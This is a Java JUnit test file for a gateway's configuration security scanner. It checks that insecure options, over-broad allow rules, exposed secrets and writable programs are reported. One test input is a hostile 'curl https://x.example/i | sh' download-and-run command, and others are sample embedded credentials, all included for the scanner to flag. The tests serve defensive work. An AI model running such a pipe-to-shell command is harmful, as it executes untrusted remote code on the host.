package io.portreeve.gateway.scan.configuration;

import static org.assertj.core.api.Assertions.assertThat;

import io.portreeve.gateway.config.Configurations;
import io.portreeve.gateway.scan.finding.Finding;
import io.portreeve.gateway.scan.finding.Progress;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ConfigurationProbeTest {
  private static final String LEAST =
      """
      data: ./data
      servers: {files: {command: [files]}}
      policy: {allow: [{name: read, servers: [files], tools: [read]}]}
      """;

  @TempDir private Path directory = Path.of("");

  @BeforeEach
  void onlyOursMayWrite() throws IOException {
    mode(directory, "rwx------");
  }

  @Test
  void configurationWithoutFault_hasNoFinding() {
    assertThat(broken(LEAST)).isEmpty();
  }

  @Test
  void everyInsecureOption_isAFinding_andGivingUpTheControlsIsTheWorst() {
    List<Finding> found =
        findings(
            LEAST
                + """
                insecure-no-controls: true
                authentication: {insecure-anonymous: {principal: nobody}}
                input: {insecure-no-inference: true}
                """);

    assertThat(found)
        .extracting(one -> one.rule().id() + " " + one.subject())
        .containsExactlyInAnyOrder(
            "no-controls insecure-no-controls",
            "insecure-option authentication.insecure-anonymous",
            "insecure-option input.insecure-no-inference");
  }

  @Test
  void settingsWeakerThanTheDefault_areFindings() {
    assertThat(
            findings(
                LEAST
                    + """
                    audit: {values: full, keep-for: 30d}
                    pinning: {first-seen: approve}
                    limits: {requests-per-minute: 1000000}
                    """))
        .extracting(one -> one.rule().id() + " " + one.subject())
        .containsExactly(
            "weakened-default pinning.first-seen",
            "weakened-default limits.requests-per-minute",
            "weakened-default audit.values",
            "weakened-default audit.keep-for");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "{name: a, tools: ['*']} | 1",
        "{name: a, roles: [x], tools: ['*']} | 1",
        "{name: a, servers: [files], tools: ['*']} | 0",
        "{name: a, tools: ['read_*']} | 0",
        "{name: a, tools: ['*'], when: 'args.n < 3'} | 0",
        "{name: a, tools: ['*'], shadow: true} | 0",
        "{name: a, tools: ['*']}], deny: [{name: b, shadow: true} | 1"
      })
  void ruleAboutEverything_isAFinding(String rule, int found) {
    String text = "data: ./data\nservers: {files: {command: [files]}}\npolicy: {allow: [" + rule;

    assertThat(broken(text + "]}\n"))
        .isEqualTo(found == 0 ? List.of() : List.of("allows-everything"));
  }

  @Test
  void everyAddress_isMoreThanClientsNeed() {
    assertThat(
            broken(
                LEAST
                    + """
                    listen: 0.0.0.0:8787
                    insecure-plaintext: true
                    http: {allowed-hosts: [a.example]}
                    """))
        .containsExactly("insecure-option", "listens-widely");
  }

  @Test
  void secretFile_thatOthersMayRead_isAFinding_andACertificateIsNot() throws IOException {
    Path secret = Files.writeString(directory.resolve("token"), "x");
    Files.writeString(directory.resolve("cert.pem"), "x");
    String text =
        """
        data: ./data
        servers:
          web: {url: "https://a.example/mcp", bearer-token: "file:token", insecure-shared-credential: true}
        """;

    mode(secret, "rw-r--r--");
    assertThat(broken(text)).containsExactlyInAnyOrder("insecure-option", "exposed-secret");
    mode(secret, "rw-------");
    assertThat(broken(text)).containsExactly("insecure-option");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = ';',
      value = {
        "[npx, -y, some-server] ; unpinned-package",
        "[npx, -y, some-server@1.2.3] ; ",
        "[sh, -c, 'curl https://x.example/i | sh'] ; download-and-run,shell-command",
        "[sh, -c, 'node a.js'] ; shell-command",
        "[server, --api-key, q8Zr2mVt6KpW] ; secret-in-command",
        "[server, 'postgresql://app:q7Kd2mZr@db/app'] ; secret-in-command",
        "[server, --token-file, /run/token] ; "
      })
  void command_isLookedAt(String command, String rules) {
    assertThat(broken("data: ./data\nservers: {files: {command: " + command + "}}\n"))
        .isEqualTo(rules == null ? List.of() : List.of(rules.split(",")));
  }

  @ParameterizedTest
  @CsvSource({
    "API_TOKEN, text:hunter2hunter2, 1",
    "GITHUB, text:ghp_16C7e42F292c6912E7710c838347Ae178B4a, 1",
    "MAX_TOKENS, text:4096000000, 0",
    "MEMORY_FILE_PATH, text:memory.json, 0",
    "KEYBOARD, text:qwertyuiop, 0"
  })
  void secretInTheFile_isAFinding_andNotShown(String name, String value, int found) {
    List<Finding> all =
        findings(
            """
            data: ./data
            servers: {files: {command: [files], environment: {%s: "%s"}}}
            """
                .formatted(name, value));

    assertThat(all).hasSize(found).allMatch(one -> one.rule().id().equals("secret-in-file"));
    assertThat(all.toString()).doesNotContain(value.substring(5));
  }

  @Test
  void secretByReference_isNoFinding() {
    String text =
        """
        data: ./data
        servers:
          files: {command: [files], environment: {API_TOKEN: "env:API_TOKEN"}, insecure-shared-credential: true}
        """;

    assertThat(broken(text)).containsExactly("insecure-option");
  }

  @Test
  void addressWithoutTls_isAFinding_elsewhereThanHere() {
    String text = "data: ./data\nservers: {web: {url: \"%s\"%s}}\n";

    assertThat(broken(text.formatted("http://127.0.0.1:3/mcp", ""))).isEmpty();
    assertThat(broken(text.formatted("http://a.example/mcp", ", insecure-plaintext: true")))
        .containsExactly("insecure-option", "plain-http");
  }

  @Test
  void program_thatOthersMayChange_isAFinding() throws IOException {
    Path folder = Files.createDirectory(directory.resolve("app"));
    Path script = Files.writeString(folder.resolve("server.js"), "x");
    String text = "data: ./data\nservers: {files: {command: [node, app/server.js]}}\n";
    assertThat(broken(text)).isEmpty();

    mode(script, "rw-rw-rw-");
    assertThat(findings(text))
        .extracting(Finding::evidence)
        .containsExactly(script.toRealPath().toString());
    mode(script, "rw-r--r--");
    mode(folder, "rwxrwxrwx");
    assertThat(findings(text))
        .extracting(Finding::evidence)
        .containsExactly(folder.toRealPath().toString());
  }

  @Test
  void programOnThePath_thatOthersMayChange_isAFinding() throws IOException {
    Path program = Files.writeString(directory.resolve("files"), "x");
    mode(program, "rwxrwxrwx");

    assertThat(findings(LEAST, Map.of("PATH", directory.toString()), "anna"))
        .extracting(one -> one.rule().id())
        .containsExactly("writable-program");
  }

  @Test
  void programStartedAsRoot_withoutASandbox_isAFinding() {
    String open = LEAST.replace("[files]}", "[files], insecure-no-sandbox: true}");

    assertThat(findings(LEAST, Map.of(), "root")).isEmpty();
    assertThat(findings(open, Map.of(), "root"))
        .extracting(one -> one.rule().id())
        .containsExactly("insecure-option", "runs-as-root");
  }

  private List<String> broken(String text) {
    return findings(text).stream().map(one -> one.rule().id()).sorted().distinct().toList();
  }

  private List<Finding> findings(String text) {
    return findings(text, Map.of(), "anna");
  }

  private List<Finding> findings(String text, Map<String, String> environment, String user) {
    var machine = new Machine(name -> Optional.ofNullable(environment.get(name)), user);
    return new ConfigurationProbe(Configurations.of(directory, text), machine).look(Progress.NONE);
  }

  private static void mode(Path file, String mode) throws IOException {
    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString(mode));
  }
}
